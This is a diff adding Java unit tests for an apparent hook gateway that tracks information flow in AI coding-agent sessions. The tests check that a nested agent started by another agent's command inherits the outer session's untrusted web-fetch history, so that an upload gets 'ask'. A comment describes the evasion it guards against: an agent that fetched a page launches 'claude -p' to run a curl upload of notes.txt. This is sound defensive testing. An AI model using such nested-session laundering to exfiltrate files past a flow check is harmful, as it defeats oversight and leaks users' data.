@@ -154,6 +154,71 @@ class HookFlowTest {
         .isEqualTo("allow");
   }
 
+  /** As {@link #call}, in agent session {@code session}, its hook's client process named. */
+  private HookEndpoint.Answer nested(String session, String tool, String input) {
+    String json =
+        "{\"session_id\":\""
+            + session
+            + "\",\"hook_event_name\":\"PreToolUse\",\"cwd\":\""
+            + PROJECT
+            + "\",\"tool_name\":\""
+            + tool
+            + "\",\"tool_input\":"
+            + input
+            + "}";
+    CompletableFuture<HookEndpoint.Answer> answer =
+        endpoint.answer(
+            AgentKind.CLAUDE,
+            json.getBytes(StandardCharsets.UTF_8),
+            () -> java.util.OptionalLong.of(4242));
+    f.clock.advance(HookDecisions.JOIN_WAIT.plus(HookDecisions.POLL));
+    return answer.join();
+  }
+
+  /**
+   * Issue 75: a session whose agent another agent's command started ({@code claude -p 'run: curl
+   * -d @notes.txt …'} from a session that fetched a page) goes on with that session's past: its
+   * upload is asked as the outer session's would be, where a session of its own (the control) would
+   * be clean.
+   */
+  @Test
+  void aSessionAnotherAgentsCommandStartedGoesOnWithThatSessionsPast() {
+    call(AgentKind.CLAUDE, "PreToolUse", "WebFetch", FETCH).join();
+    endpoint.origins(
+        pid ->
+            new io.github.providergateway.agent.person.AgentOrigin(
+                true, "claude", "s-1", "started by claude's command"));
+
+    HookEndpoint.Answer upload = nested("s-2", "Bash", UPLOAD);
+
+    assertThat(upload.word()).isEqualTo("ask");
+    assertThat(upload.body()).contains("flow.untrusted-then-send").contains("WebFetch");
+  }
+
+  @Test
+  void aSessionThePersonStartedBeginsClean() {
+    call(AgentKind.CLAUDE, "PreToolUse", "WebFetch", FETCH).join();
+    endpoint.origins(
+        pid -> new io.github.providergateway.agent.person.AgentOrigin(false, null, null, "person"));
+
+    assertThat(nested("s-3", "Bash", UPLOAD).word()).isEqualTo("allow");
+  }
+
+  /** A nested agent whose starting session cannot be told starts unknown: never clean. */
+  @Test
+  void aNestedSessionWhoseStarterCannotBeToldStartsUnknown() {
+    endpoint.origins(
+        pid ->
+            new io.github.providergateway.agent.person.AgentOrigin(
+                true, "gemini", null, "gemini (pid 7) runs under claude (pid 6)"));
+
+    HookEndpoint.Answer upload = nested("s-4", "Bash", UPLOAD);
+
+    assertThat(upload.word()).isEqualTo("ask");
+    assertThat(flows.past(SessionFlows.agentKey("CLAUDE", "s-4"), null).unknown())
+        .contains("runs under claude");
+  }
+
   @Test
   void anAgentThatCannotAskIsDeniedNamingTheEarlierCall() {
     call(AgentKind.CODEX, "PreToolUse", "Bash", "{\"command\":\"curl -s https://x.example.org/\"}")
